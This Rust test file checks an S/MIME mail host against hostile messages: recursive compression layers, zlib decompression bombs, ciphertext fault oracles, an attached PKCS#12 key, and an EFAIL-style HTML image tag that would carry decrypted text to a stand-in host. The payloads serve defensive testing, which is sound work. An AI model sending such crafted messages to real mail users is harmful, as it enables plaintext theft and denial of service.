//! What somebody who wants to harm puts into S/MIME: layers without end, content without
//! integrity beside somebody's good signature, faults inside ciphertext that must not differ.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::ZlibEncoder;
use openssl::asn1::Asn1Time;
use openssl::bn::BigNum;
use openssl::cms::{CMSOptions, CmsContentInfo};
use openssl::ec::{EcGroup, EcKey};
use openssl::hash::MessageDigest;
use openssl::nid::Nid;
use openssl::pkcs12::Pkcs12;
use openssl::pkey::{PKey, Private};
use openssl::stack::Stack;
use openssl::symm::Cipher;
use openssl::x509::extension::{BasicConstraints, KeyUsage, SubjectAlternativeName};
use openssl::x509::{X509, X509NameBuilder};
use serde_json::{Value, json};

use crate::harness::{Home, Host, encode, import};

const ALICE: &str = "alice@smime.example";
const BOB: &str = "bob@smime.example";

struct Person {
    cert: X509,
    key: PKey<Private>,
}

/// A certificate of `issuer`'s for an address; without both, an authority.
fn person(name: &str, address: Option<&str>, issuer: Option<&Person>) -> Person {
    let group = EcGroup::from_curve_name(Nid::X9_62_PRIME256V1).unwrap();
    let key = PKey::from_ec_key(EcKey::generate(&group).unwrap()).unwrap();
    let mut subject = X509NameBuilder::new().unwrap();
    subject.append_entry_by_nid(Nid::COMMONNAME, name).unwrap();
    let subject = subject.build();
    let mut builder = X509::builder().unwrap();
    builder.set_version(2).unwrap();
    let mut serial = BigNum::new().unwrap();
    serial.rand(63, openssl::bn::MsbOption::ONE, false).unwrap();
    builder
        .set_serial_number(&serial.to_asn1_integer().unwrap())
        .unwrap();
    let day = |n| Asn1Time::days_from_now(n).unwrap();
    builder.set_not_before(&day(0)).unwrap();
    builder.set_not_after(&day(20)).unwrap();
    builder.set_subject_name(&subject).unwrap();
    builder
        .set_issuer_name(issuer.map_or(&subject, |issuer| issuer.cert.subject_name()))
        .unwrap();
    builder.set_pubkey(&key).unwrap();
    let extension = match address {
        None => BasicConstraints::new().critical().ca().build().unwrap(),
        Some(address) => SubjectAlternativeName::new()
            .email(address)
            .build(&builder.x509v3_context(None, None))
            .unwrap(),
    };
    builder.append_extension(extension).unwrap();
    let mut usage = KeyUsage::new();
    usage.critical();
    match address {
        None => usage.key_cert_sign().crl_sign(),
        Some(_) => usage.digital_signature().key_agreement(),
    };
    builder.append_extension(usage.build().unwrap()).unwrap();
    let signer = issuer.map_or(&key, |issuer| &issuer.key);
    builder.sign(signer, MessageDigest::sha256()).unwrap();
    Person {
        cert: builder.build(),
        key,
    }
}

/// Alice and Bob under one authority, and Bob's host, which trusts it.
struct Town {
    alice: Person,
    bob: Person,
    host: Host,
    _home: Home,
}

impl Town {
    fn new() -> Town {
        let root = person("Root", None, None);
        let alice = person("Alice", Some(ALICE), Some(&root));
        let bob = person("Bob", Some(BOB), Some(&root));
        let home = Home::new();
        let mut host = home.start();
        host.hello();
        let anchor = host.body(&root.cert.to_pem().unwrap());
        host.good("anchors/add", json!({"data": anchor}));
        let own = [
            bob.key.private_key_to_pem_pkcs8().unwrap(),
            bob.cert.to_pem().unwrap(),
        ]
        .concat();
        import(&mut host, &own, Value::Null);
        Town {
            alice,
            bob,
            host,
            _home: home,
        }
    }

    /// A message of Alice's whose content is encrypted in CBC mode.
    fn unauthenticated(&self, content: &[u8]) -> Vec<u8> {
        let mut to = Stack::new().unwrap();
        to.push(self.bob.cert.clone()).unwrap();
        let flags = CMSOptions::BINARY;
        let cms = CmsContentInfo::encrypt(&to, content, Cipher::aes_256_cbc(), flags).unwrap();
        message(&entity("enveloped-data", &cms.to_der().unwrap()))
    }

    /// A `multipart/signed` of Alice's.
    fn signed(&self, content: &str) -> String {
        let flags = CMSOptions::BINARY | CMSOptions::DETACHED;
        let (cert, key) = (Some(&*self.alice.cert), Some(&*self.alice.key));
        let cms = CmsContentInfo::sign(cert, key, None, Some(content.as_bytes()), flags).unwrap();
        format!(
            "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; \
             micalg=sha-256; boundary=sig\r\n\r\n--sig\r\n{content}\r\n--sig\r\n\
             Content-Type: application/pkcs7-signature; name=smime.p7s\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--sig--\r\n",
            lines(&cms.to_der().unwrap())
        )
    }
}

fn lines(der: &[u8]) -> String {
    let text = encode(der);
    let lines: Vec<&str> = (0..text.len())
        .step_by(76)
        .map(|at| &text[at..text.len().min(at + 76)])
        .collect();
    lines.join("\r\n")
}

fn entity(kind: &str, der: &[u8]) -> Vec<u8> {
    format!(
        "Content-Type: application/pkcs7-mime; smime-type={kind}; name=smime.p7m\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
        lines(der)
    )
    .into_bytes()
}

/// As [`entity`], with the bytes as they are.
fn binary(kind: &str, der: &[u8]) -> Vec<u8> {
    let head = format!(
        "Content-Type: application/pkcs7-mime; smime-type={kind}\r\n\
         Content-Transfer-Encoding: binary\r\n\r\n"
    );
    [head.as_bytes(), der].concat()
}

fn message(entity: &[u8]) -> Vec<u8> {
    let head = format!(
        "From: {ALICE}\r\nTo: {BOB}\r\nSubject: s\r\nMessage-ID: <1@smime.example>\r\n\
         MIME-Version: 1.0\r\n"
    );
    [head.as_bytes(), entity].concat()
}

fn tagged(tag: u8, parts: &[&[u8]]) -> Vec<u8> {
    let content = parts.concat();
    let length = u32::try_from(content.len()).unwrap().to_be_bytes();
    [&[tag, 0x84], &length[..], &content].concat()
}

/// CompressedData (RFC 3274 1.1).
pub fn compressed(zlib: &[u8]) -> Vec<u8> {
    const KIND: &[u8] = &[6, 11, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 1, 9, 16, 1, 9];
    const ZLIB: &[u8] = &[6, 11, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 1, 9, 16, 3, 8];
    const DATA: &[u8] = &[6, 9, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 1, 7, 1];
    let inside = tagged(0x30, &[DATA, &tagged(0xA0, &[&tagged(4, &[zlib])])]);
    let data = tagged(0x30, &[&[2, 1, 0], &tagged(0x30, &[ZLIB]), &inside]);
    tagged(0x30, &[KIND, &tagged(0xA0, &[&data])])
}

pub fn zlib(content: &[u8], level: Compression) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), level);
    encoder.write_all(content).unwrap();
    encoder.finish().unwrap()
}

/// Compressed data is no layer of its own, and must count as one all the same: unpacking goes
/// down a level each time.
#[test]
fn compression_inside_compression_comes_to_an_end() {
    let mut town = Town::new();
    let mut content = b"Content-Type: text/plain\r\n\r\ninnermost\r\n".to_vec();
    for _ in 0..4_000 {
        let der = compressed(&zlib(&content, Compression::none()));
        content = binary("signed-data", &der);
    }
    let answer = town.host.open(&message(&content));
    if let Ok(opened) = answer {
        assert!(!opened.to_string().contains("innermost"));
    }
    town.host.good("keys/list", json!({}));
}

/// Each of many parts stays below the cap of one.
#[test]
fn many_small_bombs_are_one() {
    let mut town = Town::new();
    const EACH: usize = 15 << 20;
    let mut inner = b"Content-Type: text/plain\r\n\r\n".to_vec();
    inner.resize(EACH, b'x');
    let der = compressed(&zlib(&inner, Compression::best()));
    let mut mixed = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n".to_vec();
    for _ in 0..16 {
        mixed.extend_from_slice(b"--b\r\n");
        mixed.extend_from_slice(&entity("signed-data", &der));
    }
    mixed.extend_from_slice(b"--b--\r\n");
    let opened = town.host.open(&message(&mixed)).unwrap();
    let size: u64 = opened["parts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|part| part["size"].as_u64().unwrap())
        .sum();
    assert!(size >= EACH as u64 / 2, "nothing was opened: {size}");
    assert!(size <= 160 << 20, "{size} bytes out of a small message");
    let kinds: Vec<_> = opened["layers"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|layer| layer["error"]["kind"].as_str())
        .collect();
    assert!(kinds.contains(&"limit.exceeded"), "{kinds:?}");
}

/// EFAIL's gadget needs HTML to carry the plaintext away. A good signature over some other part
/// says nothing about the HTML beside it.
#[test]
fn a_good_signature_beside_html_vouches_for_nothing() {
    let mut town = Town::new();
    let html = "Content-Type: text/html\r\n\r\n<img src=\"http://e.example/?secret\">\r\n";
    let text = "Content-Type: text/plain\r\n\r\nhello\r\n";
    let signed = town.signed(text);
    let attached = format!(
        "Content-Type: message/rfc822\r\n\r\nFrom: {ALICE}\r\nMIME-Version: 1.0\r\n{signed}"
    );
    for beside in [&signed, &attached] {
        let mixed = format!(
            "Content-Type: multipart/mixed; boundary=mix\r\n\r\n--mix\r\n{html}\r\n--mix\r\n\
             {beside}\r\n--mix--\r\n"
        );
        let opened = town
            .host
            .open(&town.unauthenticated(mixed.as_bytes()))
            .unwrap();
        let signature = opened["layers"]
            .as_array()
            .unwrap()
            .iter()
            .find(|layer| layer["kind"] == "signature")
            .unwrap();
        assert_eq!(signature["signatures"][0]["status"], "good", "{signature}");
        let warnings = opened["summary"]["warnings"].to_string();
        assert!(warnings.contains("\"unauthenticated\""), "{warnings}");
        let body = html_of(&mut town.host, &opened);
        assert!(
            body.is_empty(),
            "raw HTML: {}",
            String::from_utf8_lossy(&body)
        );
    }
    // Directly inside, it vouches for all there is.
    let signed = town.signed(html);
    let opened = town
        .host
        .open(&town.unauthenticated(signed.as_bytes()))
        .unwrap();
    assert_eq!(opened["summary"]["signed"], "good", "{}", opened["summary"]);
    let warnings = opened["summary"]["warnings"].to_string();
    assert!(!warnings.contains("\"unauthenticated\""), "{warnings}");
    assert!(!html_of(&mut town.host, &opened).is_empty());
}

fn html_of(host: &mut Host, opened: &Value) -> Vec<u8> {
    let parts = opened["parts"].as_array().unwrap();
    let html = parts.iter().find(|part| part["type"] == "text/html");
    host.bytes(&html.unwrap()["body"])
}

/// "Every fault inside the ciphertext (padding, structure, compression, caps) is the same."
#[test]
fn faults_inside_ciphertext_are_one_fault() {
    let mut town = Town::new();
    let bomb = zlib(&vec![0; 20 << 20], Compression::best());
    let cut = zlib(
        b"Content-Type: text/plain\r\n\r\nhello\r\n",
        Compression::best(),
    );
    let parts = "--b\r\n\r\nx\r\n".repeat(3_000);
    let mixed = format!("Content-Type: multipart/mixed; boundary=b\r\n\r\n{parts}--b--\r\n");
    for (name, inside) in [
        ("no CMS", entity("signed-data", b"0123456789")),
        ("a bomb", entity("signed-data", &compressed(&bomb))),
        (
            "cut short",
            entity("signed-data", &compressed(&cut[..cut.len() / 2])),
        ),
        ("many parts", mixed.into_bytes()),
    ] {
        match town.host.open(&town.unauthenticated(&inside)) {
            Err(fault) => assert_eq!(fault.kind(), "decrypt.failed", "{name}: {fault:?}"),
            Ok(opened) => {
                let closed = opened["layers"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .find_map(|layer| layer["error"]["kind"].as_str());
                assert_eq!(closed, Some("decrypt.failed"), "{name}");
            }
        }
    }
}

/// A file that comes with a message is looked at for OpenPGP certificates; a key file of another
/// kind would have to be opened first, at whatever price its maker set.
#[test]
fn a_key_file_that_came_along_is_not_opened() {
    let mut town = Town::new();
    let file = Pkcs12::builder()
        .name("x")
        .pkey(&town.alice.key)
        .cert(&town.alice.cert)
        .key_iter(1_000)
        .build2("")
        .unwrap();
    let attached = format!(
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nhello\r\n--b\r\n\
         Content-Type: application/pgp-keys; name=key.p12\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
        lines(&file.to_der().unwrap())
    );
    let opened = town.host.open(&message(attached.as_bytes())).unwrap();
    assert_eq!(opened["keys"], json!([]));
}
